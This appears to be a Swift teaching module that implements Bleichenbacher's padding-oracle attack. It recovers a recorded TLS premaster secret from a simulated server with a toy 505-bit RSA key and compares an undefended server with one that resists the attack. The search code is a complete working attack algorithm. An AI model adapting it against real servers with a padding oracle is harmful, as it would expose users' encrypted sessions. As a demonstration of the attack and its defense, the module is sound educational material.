import Crypto
import TLSSim
import Trace

/// Decrypts a recorded EncryptedPreMasterSecret by asking a server whether padding is right (Bleichenbacher 1998).
///
/// The attacker has the recording and the server's public key. He multiplies what is encrypted by numbers of his choice, which RSA
/// lets anybody do, sends the product as if it were his own, and learns from the answer whether the plaintext now begins with 00 02.
/// Each time it does, fewer plaintexts are left.
///
/// The lesson's key has 505 bits: short enough that the arithmetic takes seconds, and of a length for which about one product in 400
/// has the right beginning. For a key of 2048 bits it is one in 65,536 or less, which is why it was called the attack of the million
/// messages.
public struct BleichenbacherAttack: Sendable {
    /// What the attack is aimed at.
    public enum Target: Hashable, Sendable, CaseIterable {
        /// A server that answers a wrong beginning at once, with an alert of its own.
        case undefended
        /// The server of this program: it goes on with a random premaster secret (RFC 5246 section 7.4.7.1).
        case defended
    }

    /// What came of it.
    public struct Result: Sendable {
        /// What was attacked.
        public let target: Target
        /// What the attacker has to begin with.
        public let recorded: [UInt8]
        /// The premaster secret; nil where nothing was learned.
        public let premaster: [UInt8]?
        /// Ciphertexts sent, each in a connection of its own.
        public let queries: Int
        /// How often each alert came back.
        public let answers: [(alert: AlertDescription, count: Int)]
        /// How many bits of the plaintext were open after how many queries, each time that fewer were.
        public let progress: [Progress]
    }

    /// How far it was at a moment.
    public struct Progress: Hashable, Sendable {
        /// Queries so far.
        public let queries: Int
        /// The factor that had the right beginning, in bits.
        public let factorBits: Int
        /// Intervals in which the plaintext may lie.
        public let intervals: Int
        /// Bits of the longest of them.
        public let openBits: Int
    }

    /// Bits of the lesson's key.
    public static let keyBits = 505
    /// Where it gives up if no answer differs from the others.
    public static let patience = 1_000

    private struct Interval: Hashable { let low, high: Integer }

    private let target: Target
    private var random: SeededRandomSource
    /// Only the server looks at it.
    private let key: RSAPrivateKey
    private let ciphertext: Integer
    private let recorded: [UInt8]
    private var queries = 0
    private var answers: [AlertDescription: Int] = [:]
    private var progress: [Progress] = []

    /// Draws a key and a premaster secret, and carries the attack out.
    ///
    /// - Throws: ``RSAError``; no seed is known for which it does.
    public static func run(seed: UInt64, against target: Target) throws(RSAError) -> Result {
        var attack = try BleichenbacherAttack(seed: seed, target)
        let plaintext = attack.search()
        let alerts = attack.answers.keys.sorted { $0.rawValue < $1.rawValue }
        return Result(
            target: target, recorded: attack.recorded,
            premaster: plaintext.flatMap { $0.bigEndian(count: attack.key.size) }.map {
                Array($0.suffix(RSAKeyExchange.premasterLength))
            },
            queries: attack.queries, answers: alerts.map { ($0, attack.answers[$0] ?? 0) }, progress: attack.progress)
    }

    /// The premaster secret of that seed, to compare with.
    public static func premaster(seed: UInt64) -> [UInt8] {
        var random = SeededRandomSource(seed: seed).fork("premaster secret")
        return ProtocolVersion.tls12.octets + random.octets(RSAKeyExchange.premasterLength - 2)
    }

    private init(seed: UInt64, _ target: Target) throws(RSAError) {
        self.target = target
        random = SeededRandomSource(seed: seed).fork("bleichenbacher")
        key = try RSAPrivateKey.generateToy(bits: Self.keyBits, using: &random)
        recorded = try PKCS1v15.encrypt(Self.premaster(seed: seed), to: key.publicKey, using: &random)
        ciphertext = Integer(bigEndian: recorded)
    }

    // MARK: The server

    /// The alert with which a handshake with this EncryptedPreMasterSecret ends. The attacker knows no premaster secret, so that
    /// his Finished is never right.
    private mutating func ask(_ encrypted: Integer) -> AlertDescription {
        queries += 1
        let octets = encrypted.bigEndian(count: key.size) ?? []
        let alert: AlertDescription
        switch target {
        case .undefended:
            let encoded = (try? PKCS1v15.encodedMessage(octets, with: key, blindedBy: &random)) ?? []
            alert = encoded.starts(with: [0, 2]) ? .badRecordMAC : .handshakeFailure
        case .defended:
            _ = RSAKeyExchange.conclude(octets, remembering: key, offeredVersion: .tls12, using: &random)
            alert = .badRecordMAC
        }
        answers[alert, default: 0] += 1
        return alert
    }

    // MARK: The attacker

    /// B: plaintexts that begin with 00 02 lie from 2B to 3B - 1.
    private var bound: Integer { .powerOfTwo(8 * (key.size - 2)) }

    private static func floor(_ a: Integer, _ b: Integer) -> Integer {
        a.quotientAndRemainder(dividingBy: b)?.quotient ?? 0
    }

    private static func ceiling(_ a: Integer, _ b: Integer) -> Integer { floor(a + b - 1, b) }

    /// Whether the plaintext times `factor` begins with 00 02.
    private mutating func conforms(_ factor: Integer) -> Bool {
        let n = key.publicKey.n
        guard let blinded = factor.power(key.publicKey.e, modulo: n) else { return false }
        // If no other answer has been seen, this one says nothing.
        return ask((ciphertext * blinded).modulo(n)) == .badRecordMAC && answers.count > 1
    }

    private var isHopeless: Bool { queries >= Self.patience && answers.count == 1 }

    /// The plaintext; nil if nothing can be learned. The steps are numbered as in Bleichenbacher's paper.
    private mutating func search() -> Integer? {
        let n = key.publicKey.n
        let b2 = bound * 2
        let b3 = bound * 3
        var intervals = [Interval(low: b2, high: b3 - 1)]
        // Step 2a: the first factor.
        var factor = Self.ceiling(n, b3)
        while !conforms(factor) {
            guard !isHopeless else { return nil }
            factor = factor + 1
        }
        while true {
            intervals = narrowed(intervals, factor)
            note(intervals, factor)
            guard let first = intervals.first else { return nil }
            if intervals.count == 1, first.low == first.high { return first.low }
            if intervals.count > 1 {
                // Step 2b: several intervals are left.
                repeat { factor = factor + 1 } while !conforms(factor)
            } else {
                factor = next(first, after: factor)
            }
        }
    }

    /// Step 2c: the next factor for a single interval, about twice as large, so that the interval is halved.
    private mutating func next(_ interval: Interval, after factor: Integer) -> Integer {
        let n = key.publicKey.n
        let b2 = bound * 2
        let b3 = bound * 3
        var r = Self.ceiling((interval.high * factor - b2) * 2, n)
        while true {
            var candidate = Self.ceiling(b2 + r * n, interval.high)
            let end = Self.ceiling(b3 + r * n, interval.low)
            while candidate < end {
                if conforms(candidate) { return candidate }
                candidate = candidate + 1
            }
            r = r + 1
        }
    }

    /// Step 3: what is left of the intervals when the plaintext times `factor` begins with 00 02.
    private func narrowed(_ intervals: [Interval], _ factor: Integer) -> [Interval] {
        let n = key.publicKey.n
        let b2 = bound * 2
        let b3 = bound * 3
        var left: [Interval] = []
        for interval in intervals {
            var r = Self.ceiling(interval.low * factor - b3 + 1, n)
            let last = Self.floor(interval.high * factor - b2, n)
            while r <= last {
                let low = max(interval.low, Self.ceiling(b2 + r * n, factor))
                let high = min(interval.high, Self.floor(b3 - 1 + r * n, factor))
                if low <= high, !left.contains(Interval(low: low, high: high)) {
                    left.append(Interval(low: low, high: high))
                }
                r = r + 1
            }
        }
        return left
    }

    private mutating func note(_ intervals: [Interval], _ factor: Integer) {
        let open = intervals.map { ($0.high - $0.low).bitWidth }.max() ?? 0
        progress.append(
            Progress(
                queries: queries, factorBits: factor.bitWidth, intervals: intervals.count, openBits: open))
    }
}
